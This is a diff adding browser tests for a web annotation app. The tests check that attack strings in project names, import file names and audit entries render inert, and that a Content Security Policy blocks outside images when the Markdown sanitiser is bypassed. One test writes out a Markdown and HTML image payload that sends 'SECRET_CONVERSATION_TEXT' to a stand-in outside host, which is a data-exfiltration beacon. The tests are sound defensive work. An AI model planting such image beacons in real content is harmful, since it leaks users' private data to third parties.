@@ -7,7 +7,6 @@ from urllib.parse import urlsplit
 
 import pytest
 
-from annotations.models import Role
 from annotations.services import leases, submissions
 from annotations.services.instructions import publish_instructions
 from frontend.models import InstructionAcknowledgement
@@ -114,3 +113,108 @@ def test_attack_cases_render_inert(page, live_server, labeller, logged_in, membe
 
     assert seen["dialogs"] == []
     assert seen["hosts"] <= {"127.0.0.1", "localhost"}, seen["hosts"]
+
+
+def normalised(text: str) -> str:
+    return " ".join(text.split())
+
+
+def test_attack_names_render_inert_on_the_admin_pages(page, live_server, logged_in, settings):
+    """Project names and descriptions, import file names (uploaded and fetched), URLs and audit
+    details carry every attack case: shown as text (invisible characters as markers), and inert."""
+    from annotations.models import ImportBatch
+    from annotations.services import projects as project_service
+    from frontend.rendering import reveal_text
+
+    from ..factories import ProjectFactory, UserFactory
+
+    names = attack_texts(max_chars=200)  # a project name holds 200 characters
+    admin = UserFactory()
+    projects = []
+    for i, name in enumerate(names):
+        project = ProjectFactory(name=f"p{i}", created_by=admin)
+        projects.append(project_service.update_project_settings(project=project, actor=admin, name=name,
+                                                                description=name))
+    first = projects[0]
+    for name in names:
+        ImportBatch.objects.create(project=first, file_name=name, format="jsonl", created_by=admin, status="failed",
+                                   source_url=f"https://files.example.org/{name[:40]}", errors=[{"line": 0,
+                                                                                                 "reason": name}])
+    seen = watch(logged_in(admin))
+
+    page.goto(f"{live_server.url}/")
+    assert_inert(page, "My projects · Labelwork")
+    text = normalised(page.locator("main").inner_text())
+    assert all(normalised(reveal_text(name)) in text for name in names)
+    assert "⟨U+202E⟩" in text and "⟨U+200B⟩" in text
+
+    for project, name in zip(projects, names):
+        page.goto(f"{live_server.url}/projects/{project.pk}/imports/")
+        assert_inert(page, f"Imports · {normalised(reveal_text(name))} · Labelwork")
+        assert normalised(reveal_text(name)) in normalised(page.locator(".project-nav").inner_text())
+    page.goto(f"{live_server.url}/projects/{first.pk}/imports/")
+    table = normalised(page.locator("table.list").inner_text())
+    assert all(normalised(reveal_text(name)) in table for name in names)
+
+    for batch in first.imports.all()[:4]:
+        page.goto(f"{live_server.url}/projects/{first.pk}/imports/{batch.pk}/")
+        assert_inert(page, f"Import {batch.pk} · {normalised(reveal_text(first.name))} · Labelwork")
+    page.goto(f"{live_server.url}/projects/{first.pk}/audit/")
+    assert_inert(page, f"Audit log · {normalised(reveal_text(first.name))} · Labelwork")
+    page.goto(f"{live_server.url}/projects/{first.pk}/settings/")
+    assert_inert(page, f"Settings · {normalised(reveal_text(first.name))} · Labelwork")
+    assert page.locator("input[name=name]").input_value() == first.name  # a form shows the value as it is
+
+    assert seen["dialogs"] == []
+    assert seen["hosts"] <= {"127.0.0.1", "localhost"}, seen["hosts"]
+
+
+def test_csp_alone_stops_an_outside_image_when_the_sanitiser_is_bypassed(page, live_server, labeller, logged_in,
+                                                                        monkeypatch, settings):
+    """The second layer on its own: with the Markdown sanitiser switched off in the server, an
+    instruction's outside image reaches the page as a real <img>, and the browser still sends
+    nothing to the outside host because of the CSP (img-src 'self' data:). The same page with the
+    CSP header removed does send the request, so the test can see a leak when there is one."""
+    from django.utils.safestring import mark_safe
+
+    from markdown_it import MarkdownIt
+
+    from annotations.services.instructions import publish_instructions
+
+    from ..annotations.file_servers import STAND_IN, Server
+
+    outside = Server(STAND_IN)  # another origin than the live server
+    try:
+        project, user = labeller
+        exfil = f"{outside.url('/collect')}?q=SECRET_CONVERSATION_TEXT"
+        publish_instructions(project=project, published_by=project.created_by,
+                             body=f"# Rules\n\n![loading]({exfil})\n\n<img src=\"{exfil}&raw=1\">")
+        project.refresh_from_db()
+        demonstration_task(project)
+        lease = leases.lease_next_task(project=project, annotator=user)
+        # Bypass: raw HTML on, nothing removed afterwards.
+        unsafe = MarkdownIt("commonmark", {"html": True})
+        monkeypatch.setattr("frontend.templatetags.labelwork.render_markdown",
+                            lambda source: mark_safe(unsafe.render(source or "")))
+
+        page = logged_in(user)
+        page.add_init_script("window.__blocked = []; document.addEventListener('securitypolicyviolation',"
+                             " e => window.__blocked.push(e.violatedDirective + ' ' + e.blockedURI));")
+        url = f"{live_server.url}/projects/{project.pk}/label/{lease.pk}/"
+        page.goto(url)
+        page.wait_for_selector("#label-app[data-ready]")
+        assert page.locator(f".instructions-panel img[src^='{outside.url('/collect')}']").count() == 2  # bypassed
+        page.wait_for_timeout(500)
+        assert outside.seen == []
+        blocked = page.evaluate("window.__blocked")
+        assert any(b.startswith("img-src") and "/collect" in b for b in blocked), blocked
+
+        # Control: the same page served without its CSP (django-csp's own exclusion setting).
+        settings.CONTENT_SECURITY_POLICY = {**settings.CONTENT_SECURITY_POLICY, "EXCLUDE_URL_PREFIXES": ["/projects/"]}
+        assert "content-security-policy" not in page.goto(url).headers
+        page.wait_for_selector("#label-app[data-ready]")
+        page.wait_for_function("document.querySelectorAll('.instructions-panel img').length === 2"
+                               " && [...document.querySelectorAll('.instructions-panel img')].every(i => i.complete)")
+        assert [path for path, _host in outside.seen] == ["/collect", "/collect"]
+    finally:
+        outside.close()
